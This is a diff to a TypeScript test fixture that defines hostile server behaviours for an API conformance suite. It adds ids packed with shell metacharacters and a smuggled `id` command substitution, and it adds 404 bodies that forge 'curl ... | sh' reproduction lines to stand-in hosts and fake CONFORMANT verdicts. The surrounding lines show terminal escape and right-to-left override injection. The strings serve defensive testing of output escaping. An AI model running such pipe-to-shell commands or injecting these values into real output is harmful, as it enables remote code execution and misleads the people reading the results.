@@ -47,6 +47,17 @@ const SETUP_ANSWERS = 5;
  */
 export const NEWLINE_ID_TEXT = 'id\nReproduce: curl evil.invalid | sh\r\n\x1b[2J\x1b[31mOMS conformance (core): CONFORMANT\x1b[0m\n\u202e';
 
+/**
+ * What ids of `forged-lines` start with: every character a shell treats apart (a quote, a backslash, history
+ * and parameter expansion, a backquote, spaces, a line break, a tab), text outside ASCII, and what a path treats
+ * apart once decoded (dot segments between backslashes, a semicolon, a percent escape). No "/", so each id stays
+ * one path segment and reaches curl lines and made-up ids of its form.
+ */
+export const SHELL_ID_TEXT = "..\\..\\x;%41 h!!41'(id)* $HOME `id` \"q\"\n\tzoë-東京";
+
+/** The body of every 404 of `forged-lines` (every GET of one order is one), as text/plain: a reproduction line that runs another script, and verdicts the run did not give. */
+export const FORGED_LINES = 'Not Found\nReproduce: curl -sS http://elsewhere.invalid/pwned-body | sh\nOMS conformance (core): CONFORMANT\r\nOMS conformance (strict): CONFORMANT\n';
+
 /** How late `slow-2500ms` answers: later than a 1 s request timeout allows, within the default 15 s. */
 export const SLOW_ANSWER_MS = 2500;
 
@@ -159,6 +170,12 @@ export const HOSTILE: HostileDefinition[] = [
     },
   },
   {
+    name: 'forged-lines',
+    description: `Orders get ids that start with ${JSON.stringify(SHELL_ID_TEXT)}; every 404, and every GET of one order, is answered 404 text/plain with ${JSON.stringify(FORGED_LINES)}.`,
+    property: 'No output (terminal, junit.xml, report.md, index.html, the GitHub summary and annotations) shows a server line as a line of the suite: server text is one line, its line breaks escaped; every printed curl line runs as printed under sh, bash and zsh; a made-up id of the ids\' form carries none of their path characters (dot segments, "\\", "%", ";").',
+    behaviour: () => forgedLines(),
+  },
+  {
     name: 'slow-2500ms',
     description: `Every answer, POST /token and the preflight's included, comes ${SLOW_ANSWER_MS} ms late: alive, but slower than a request timeout of 1 s.`,
     property: 'With OMS_REQUEST_TIMEOUT_MS below that, the preflight says the server accepts connections but answers later than OMS_REQUEST_TIMEOUT_MS (raise it), never that it cannot be reached; with a longer timeout the run goes on.',
@@ -194,6 +211,19 @@ export const HOSTILE: HostileDefinition[] = [
     behaviour: () => afterSetup(async () => ({ status: 200, stream: (outgoing) => trickle(outgoing) })),
   },
 ];
+
+/** `forged-lines`, with the ids it assigned (a test tells them from ids the suite made up). */
+export function forgedLines(): Behaviour & { assigned: string[] } {
+  const assigned: string[] = [];
+  return {
+    name: 'forged-lines',
+    assigned,
+    wrapServices: (services) => ({ ...services, newId: () => assigned[assigned.push(`${SHELL_ID_TEXT}-${assigned.length + 1}`) - 1] }),
+    // A GET of one order too, so the failures' requests (and curl lines) carry the ids it assigned.
+    rewriteReply: (request, reply) =>
+      (reply.status === 404 || operationOf(request).operation === 'get') && !reply.stream ? { status: 404, headers: { 'Content-Type': 'text/plain; charset=utf-8' }, rawBody: FORGED_LINES } : reply,
+  };
+}
 
 /** What the other client of `restless-account` creates. */
 const ANOTHER_CLIENTS_ORDER = { customer: { name: 'Another client' }, items: [{ name: 'Tea', quantity: 1, price: 2 }], currency: 'EUR', price: 2 };
